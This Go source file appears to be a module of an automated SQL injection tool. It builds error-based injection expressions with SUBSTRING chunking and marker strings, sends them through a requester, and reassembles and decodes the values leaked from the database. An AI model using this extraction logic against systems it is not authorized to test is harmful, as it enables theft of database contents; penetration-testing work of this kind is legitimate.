package errorextract

import (
	"context"
	"encoding/hex"
	"fmt"
	"html"
	"strings"
)

// assembleScalar is the ChunkReassembler (C2): it retrieves one logical
// scalar, issuing successive SUBSTRING-bounded requests for DBMS dialects
// known to truncate error output, and a single request otherwise.
//
// expression already has field as its sole relevant projected column
// (RowExpander has already applied whatever substitution was required);
// field is the column name to wrap in NullAndCastField/SUBSTRING and to
// bracket with the session markers.
func (s *Session) assembleScalar(ctx context.Context, expression, field string) (*string, error) {
	chunkLength := s.DBMS.ChunkLength()

	var accumulator *string
	offset := 1

	for {
		out, err := s.fetchChunk(ctx, expression, field, offset, chunkLength)
		if err != nil {
			return nil, err
		}

		if chunkLength <= 0 {
			accumulator = out
			break
		}

		if offset == 1 {
			accumulator = out
		} else {
			joined := ""
			if accumulator != nil {
				joined = *accumulator
			}
			if out != nil {
				joined += *out
			}
			accumulator = &joined
		}

		if out != nil && len(*out) >= chunkLength {
			offset += chunkLength
			continue
		}
		break
	}

	return s.postProcess(accumulator), nil
}

// fetchChunk performs exactly one HTTP round trip for field at the given
// offset/chunkLength (chunkLength <= 0 means single-shot, no SUBSTRING
// wrapping) and extracts the marked value from the response.
func (s *Session) fetchChunk(ctx context.Context, expression, field string, offset, chunkLength int) (*string, error) {
	nulledCast := s.DBMS.NullAndCastField(field)
	if chunkLength > 0 {
		nulledCast = s.DBMS.Substring(nulledCast, offset, chunkLength)
	}

	bracketed := s.DBMS.Concatenate(
		s.DBMS.QuoteString(s.Markers.Start),
		nulledCast,
		s.DBMS.QuoteString(s.Markers.Stop),
	)

	injExpr := strings.Replace(expression, field, bracketed, 1)
	injExpr = s.DBMS.Unescape(injExpr)
	forged := s.Agent.Payload(injExpr)

	result, err := s.Requester.QueryPage(ctx, forged)
	if err != nil {
		return nil, fmt.Errorf("errorextract: query page: %w", err)
	}
	s.ErrorCount.Add(1)

	extraction := s.Extractor.Extract(result.Body, result.Headers, result.Redirect, result.RequestUID)
	if extraction.Value != nil {
		return extraction.Value, nil
	}
	if extraction.Trimmed {
		s.Logger.Warn("possible server trimmed output detected", "snippet", extraction.Snippet)
	}
	return nil, nil
}

// postProcess applies the transformations ChunkReassembler runs once per
// assembled scalar, in order: hex-decode (if configured), HTML-unescape,
// <br> to newline, and the CharRestorer (C7).
func (s *Session) postProcess(v *string) *string {
	if v == nil {
		return nil
	}
	out := *v

	if s.Config.HexConvert {
		if decoded, err := hex.DecodeString(out); err == nil {
			out = string(decoded)
		}
	}

	out = html.UnescapeString(out)
	out = strings.ReplaceAll(out, "<br>", "\n")
	out = s.SafeChars.Restore(out)

	return &out
}
